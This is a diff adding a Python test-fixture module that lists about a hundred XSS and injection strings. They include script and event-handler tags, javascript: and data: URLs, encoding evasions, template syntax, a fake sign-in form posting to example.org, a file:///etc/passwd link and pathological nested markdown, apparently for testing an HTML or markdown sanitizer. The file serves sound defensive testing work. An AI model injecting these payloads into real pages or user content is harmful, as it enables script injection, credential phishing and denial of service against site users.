@@ -1,0 +1,86 @@
+"""About a hundred texts that try to get script, a form, a picture or a false address into a page."""
+
+_SCRIPT = "alert(1)"
+
+_MARKUP = [
+    f"<script>{_SCRIPT}</script>",
+    f"<ScRiPt src=//example.org/x.js>{_SCRIPT}</sCrIpT >",
+    f"<img src=x onerror={_SCRIPT}>",
+    f"<img/src='x'/onerror='{_SCRIPT}'",
+    f"<svg onload={_SCRIPT}>",
+    f"<svg><animate onbegin={_SCRIPT} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{_SCRIPT}'><text x=1 y=20>x</text></a></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_SCRIPT}>",
+    f"<math href='javascript:{_SCRIPT}'>x</math>",
+    f"<noscript><p title='</noscript><img src=x onerror={_SCRIPT}>'>",
+    f"<details open ontoggle={_SCRIPT}><summary>x</summary></details>",
+    f"<body onload={_SCRIPT}>",
+    f"<iframe srcdoc='<script>{_SCRIPT}</script>'></iframe>",
+    "<iframe src=//example.org></iframe>",
+    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
+    "<embed src=//example.org/x.swf>",
+    "<base href=//example.org/>",
+    "<meta http-equiv=refresh content='0;url=//example.org'>",
+    "<link rel=stylesheet href=//example.org/x.css>",
+    "<style>@import '//example.org/x.css'; * { display: none }</style>",
+    "<form action=//example.org><input name=passphrase><button>Sign in</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<p style='position:fixed;inset:0'>over everything</p>",
+    "<p id=main class=button--danger name=form_token>taken</p>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<video><source onerror=alert(1)></video>",
+    "</textarea></div></article></main><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "' onmouseover='alert(1)",
+    "{{ 7 * 7 }} {% include 'x' %} ${alert(1)} #{7*7}",
+    "\x00<script\x00>alert(1)</script>",
+    "<scr\u200bipt>alert(1)</scr\u200bipt>",
+    "＜script＞alert(1)＜/script＞",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+]
+
+_ADDRESSES = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "javascript&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "javascript:123",
+    "javascript:`1Привет`",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "file:///etc/passwd",
+    "//example.org/x",
+    "\\\\example.org\\x",
+    "https://samaritans.org@example.org/",
+    "/leave",
+    "mailto:x@example.org?bcc=all",
+    "feed:https://example.org",
+]
+
+_AROUND = ["[x]({0})", "[x](<{0}>)", "<{0}>", "![x]({0})"]
+
+_SHAPES = [
+    "![x](https://example.org/x.png)",
+    "[![x](https://example.org/x.png)](javascript:alert(1))",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[x](https://example.org 'title\" onmouseover=alert(1) x=\"')",
+    "# heading\n\n<h1>heading</h1>",
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    ">! <script>alert(1)</script>",
+    "||<img src=x onerror=alert(1)>||",
+    "\u202egnp.exe\u202c",
+    "> " * 300 + "deep",
+    "[" * 2000,
+    "*a **a " * 400,
+]
+
+ATTACKS = [*_MARKUP, *(around.format(address) for address in _ADDRESSES for around in _AROUND[:3]), *_SHAPES]
